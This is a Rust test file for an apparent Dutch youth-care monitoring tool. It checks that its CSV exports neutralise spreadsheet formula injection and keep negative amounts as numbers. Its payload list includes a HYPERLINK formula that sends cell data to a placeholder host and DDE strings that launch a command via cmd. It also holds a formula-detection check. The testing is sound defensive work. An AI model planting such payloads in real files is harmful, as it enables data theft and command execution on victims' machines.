//! Every CSV export, fed with names that a spreadsheet would run as formulas
//! (OWASP "CSV injection"): no cell of any export may start a formula, and
//! negative amounts stay numbers.
//!
//! The exports are also written to `target/tmp/formule-exports/`, where
//! `scripts/spreadsheet-controle.sh` opens each one in LibreOffice with
//! formula evaluation on and checks that no cell became a formula.

use std::collections::BTreeMap;

use jeugdmonitor_core::cbs::{eigen_cijfers, lees_statline, vergelijk, vergelijking_csv};
use jeugdmonitor_core::content::lees_regio;
use jeugdmonitor_core::csvschrijver::kan_formule_zijn;
use jeugdmonitor_core::date::Datum;
use jeugdmonitor_core::doelen::{doelen_csv, evalueer, lees_doelen};
use jeugdmonitor_core::export::{geen_gegevens, kpi_csv, uitsplitsing_csv};
use jeugdmonitor_core::ingest::{afgewezen_csv, bouw_dataset, Bestandslezer, Bestandsresultaat, Inleesopties};
use jeugdmonitor_core::kpi::{bereken_alle, bereken_per, Dimensie, KpiIndex, KpiOpties, Scope, Venster};
use jeugdmonitor_core::suppression::{onderdruk, Onderdrukking, OnderdruktResultaat};

/// Names that start a formula in Excel or LibreOffice, one per character of
/// OWASP's list, with a payload that would send data to another website.
/// The last three differ after the reader trims them, so each is counted.
const FORMULES: [&str; 7] = [
    "=HYPERLINK(\"https://voorbeeld.invalid/?\"&A1;\"klik\")",
    "+SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=2+2",
    "\r=3+3",
    " =4+4",
];

/// Whether a spreadsheet could run `cel` as a formula, judged apart from the
/// writer's own rule: it starts, perhaps after spaces, with one of OWASP's
/// characters, unless it is made of digits, commas and points only.
fn begint_formule(cel: &str) -> bool {
    let zonder_teken = cel.strip_prefix(['-', '+']).unwrap_or(cel);
    let getal = !zonder_teken.is_empty()
        && zonder_teken.chars().all(|c| c.is_ascii_digit() || c == ',' || c == '.')
        && zonder_teken.ends_with(|c: char| c.is_ascii_digit());
    let eerste = cel.trim_start_matches([' ', '\u{A0}']).chars().next();
    let tekens = ['=', '+', '-', '@', '\t', '\r', '\n'];
    !getal && (cel.starts_with(tekens) || eerste.is_some_and(|c| tekens.contains(&c)))
}

fn lees(naam: &str, tekst: &str) -> Bestandsresultaat {
    let regio = lees_regio("regio.toml", include_str!("../../../public/content/regio.toml")).expect("regio.toml");
    let opties = Inleesopties {
        gemeenten: regio.gemeenten.clone(),
        huidig_jaar: 2026,
        ..Inleesopties::default()
    };
    let mut lezer = Bestandslezer::nieuw(naam, &opties);
    lezer.voed(tekst.as_bytes());
    lezer.einde()
}

/// A trajecten file where every provider has a formula for a name, and rows
/// that are rejected with a formula as their value; declarations with
/// negative amounts.
fn bestanden() -> Vec<Bestandsresultaat> {
    let mut trajecten =
        String::from("client;toewijzing;gemeente;aanbieder;productcategorie;productcode;segment;begindatum;einddatum;reden_beeindiging\n");
    let mut declaraties = String::from("toewijzing;maand;bedrag\n");
    for (i, formule) in FORMULES.iter().enumerate() {
        let aanbieder = format!("\"{}\"", formule.replace('"', "\"\""));
        for j in 0..6 {
            let client = format!("C{i}{j}");
            let toewijzing = format!("T{i}{j}");
            trajecten.push_str(&format!(
                "{client};{toewijzing};GM0243;{aanbieder};45;45A01;4;01-02-2023;;\n"
            ));
            declaraties.push_str(&format!(
                "{toewijzing};2023-03;1.250,00\n{toewijzing};2023-04;-1234,50\n"
            ));
        }
        // Rejected: a formula as municipality code and as amount.
        trajecten.push_str(&format!("X{i};R{i};{aanbieder};P;45;45A01;4;01-02-2023;;\n"));
        declaraties.push_str(&format!("T{i}0;2023-05;{aanbieder}\n"));
    }
    vec![lees("trajecten.csv", &trajecten), lees("declaraties.csv", &declaraties)]
}

fn exports() -> Vec<(String, String)> {
    let resultaten = bestanden();
    let mut uit: Vec<(String, String)> = resultaten
        .iter()
        .map(|r| (format!("afgewezen-{}", r.bestandsnaam), afgewezen_csv(r)))
        .collect();
    let data = bouw_dataset(resultaten).dataset;
    let index = KpiIndex::bouw(&data, &Default::default());
    let jaar = Venster::jaar(2023).expect("venster");
    let opties = KpiOpties::default();
    let k = Onderdrukking::nieuw(5).expect("k");
    let alles = bereken_alle(&index, &data, jaar, None, &Scope::default(), &opties);
    uit.push(("kpi.csv".into(), kpi_csv(&onderdruk(&alles, k), &geen_gegevens(&alles))));
    for dimensie in Dimensie::ALLE {
        let groepen = bereken_per(&index, &data, jaar, None, &Scope::default(), &opties, dimensie);
        let getoond: Vec<(String, String, OnderdruktResultaat)> = groepen
            .iter()
            .map(|g| (g.waarde.clone(), g.waarde.clone(), onderdruk(&g.resultaat, k)))
            .collect();
        let refs: Vec<(String, String, &OnderdruktResultaat)> =
            getoond.iter().map(|(a, b, r)| (a.clone(), b.clone(), r)).collect();
        uit.push((
            format!("uitsplitsing-{}.csv", dimensie.naam()),
            uitsplitsing_csv(dimensie.naam(), &refs),
        ));
    }
    // CBS: the region and a municipality named by the advisor's content.
    let (tabel, _) = lees_statline(
        "85098NED.csv",
        include_bytes!("../../../public/demo/cbs/85098NED_indicatoren_jeugdzorg_gemeenten_2022.csv"),
    )
    .expect("CBS-bestand");
    let gemeenten = vec![("GM0243".to_string(), FORMULES[1].to_string())];
    let eigen = eigen_cijfers(&index, &data, 2022, &["GM0243".to_string()]);
    let v = vergelijk(&[tabel], 2022, FORMULES[0], &gemeenten, Some(&eigen));
    uit.push(("cbs.csv".into(), vergelijking_csv(&v, 5)));
    // Goals: titles are typed by users and imported from files.
    let mut doelen = lees_doelen("doelen.toml", include_str!("../../../public/content/doelen.toml")).expect("doelen");
    for (doel, formule) in doelen.doelen.iter_mut().zip(FORMULES.iter().cycle()) {
        doel.titel = formule.to_string();
    }
    let peildatum = Datum::from_ymd(2023, 12, 31).expect("datum");
    let evaluaties: Vec<_> = doelen
        .doelen
        .iter()
        .map(|d| evalueer(d, peildatum, &data, &index, &opties))
        .collect();
    uit.push(("doelen.csv".into(), doelen_csv(&doelen, &evaluaties)));
    uit
}

/// Every cell of a CSV text, read by the `csv` crate (an independent reader).
fn cellen(tekst: &str) -> Vec<Vec<String>> {
    let scheidingsteken = if tekst.lines().next().is_some_and(|l| l.contains(';')) {
        b';'
    } else {
        b','
    };
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .delimiter(scheidingsteken)
        .from_reader(tekst.trim_start_matches('\u{FEFF}').as_bytes())
        .records()
        .map(|r| r.expect("leesbare CSV").iter().map(str::to_string).collect())
        .collect()
}

#[test]
fn geen_cel_van_een_export_begint_een_formule() {
    let exports = exports();
    let map = std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join("formule-exports");
    std::fs::create_dir_all(&map).expect("map");
    let mut gevonden: BTreeMap<String, usize> = BTreeMap::new();
    for (naam, tekst) in &exports {
        std::fs::write(map.join(naam), tekst).expect("schrijven");
        for rij in cellen(tekst) {
            for cel in rij {
                assert!(!begint_formule(&cel), "{naam}: de cel {cel:?} begint een formule");
                assert!(!kan_formule_zijn(&cel), "{naam}: de cel {cel:?} begint een formule");
                // The neutralised payloads are still there, as text. (The
                // ingest reader trims the tab, CR and spaces around a value.)
                let tekst = cel.strip_prefix('\'').unwrap_or_default().trim();
                if FORMULES.iter().any(|f| tekst == f.trim()) {
                    *gevonden.entry(tekst.to_string()).or_default() += 1;
                }
            }
        }
    }
    // The test would prove nothing if the payloads never reached an export:
    // each one does, in the breakdown per provider and in the rejected rows.
    for f in FORMULES {
        let keer = gevonden.get(f.trim()).copied().unwrap_or(0);
        assert!(keer >= 2, "{f:?} kwam in geen enkele export terecht");
    }
    for naam in [
        "uitsplitsing-aanbieder.csv",
        "afgewezen-trajecten.csv",
        "afgewezen-declaraties.csv",
        "cbs.csv",
        "doelen.csv",
    ] {
        let tekst = &exports.iter().find(|(n, _)| n == naam).expect("export").1;
        assert!(tekst.contains("\"'"), "{naam} bevat geen geneutraliseerde cel");
    }
}

#[test]
fn negatieve_bedragen_blijven_getallen() {
    let exports = exports();
    let kpi = &exports.iter().find(|(n, _)| n == "kpi.csv").expect("kpi.csv").1;
    // 7 providers × 6 youths × (1 250,00 − 1 234,50) = 651,00 in total; the
    // rejected file shows the amount that did not parse as it was.
    let kosten = cellen(kpi)
        .into_iter()
        .find(|r| r.first().is_some_and(|c| c == "kosten"))
        .expect("kosten");
    assert_eq!(kosten[1], "651,00");
    let declaraties = resultaat_declaraties();
    assert_eq!(declaraties.afgewezen.len(), FORMULES.len());
    let afgewezen = cellen(&afgewezen_csv(&declaraties));
    let negatief = "-1234,50";
    assert!(!kan_formule_zijn(negatief));
    let mut s = jeugdmonitor_core::csvschrijver::CsvSchrijver::nieuw(';');
    s.regel(["x", negatief, "-0,05"]);
    assert_eq!(s.klaar(), "\u{FEFF}x;-1234,50;-0,05\r\n");
    assert!(afgewezen.iter().skip(1).all(|r| r[2].starts_with('\'')));
}

fn resultaat_declaraties() -> Bestandsresultaat {
    bestanden().remove(1)
}

/// A rejected-rows file is meant to be mended and loaded again: the values
/// the writer neutralised come back as they were, so a client `+AbC` is the
/// same child and a provider keeps its name.
#[test]
fn afgewezen_regels_verbeterd_en_opnieuw_geladen_geven_de_oude_waarden() {
    let trajecten = "client;toewijzing;gemeente;aanbieder;productcategorie;productcode;segment;begindatum;einddatum;reden_beeindiging\n\
                     +AbC;T1;GM0243;=Zorg(1);45;45A01;4;31-02-2023;;\n\
                     -xY;T2;GM0243;@Hulp;45;45A01;4;31-02-2023;;\n";
    let eerst = lees("trajecten.csv", trajecten);
    assert_eq!(eerst.afgewezen.len(), 2, "{:?}", eerst.afgewezen);
    let hersteld = afgewezen_csv(&eerst).replace("31-02-2023", "28-02-2023");
    assert!(hersteld.contains("\"'+AbC\""), "{hersteld}");
    let opnieuw = lees("hersteld.csv", &hersteld);
    assert!(opnieuw.afgewezen.is_empty(), "{:?}", opnieuw.afgewezen);
    let data = bouw_dataset(vec![opnieuw]).dataset;
    let mut clients: Vec<&str> = data.clients.iter().map(|c| &**c).collect();
    clients.sort_unstable();
    assert_eq!(clients, ["+AbC", "-xY"]);
    let mut aanbieders: Vec<&str> = data.trajecten.iter().map(|t| &*t.aanbieder).collect();
    aanbieders.sort_unstable();
    assert_eq!(aanbieders, ["=Zorg(1)", "@Hulp"]);
}
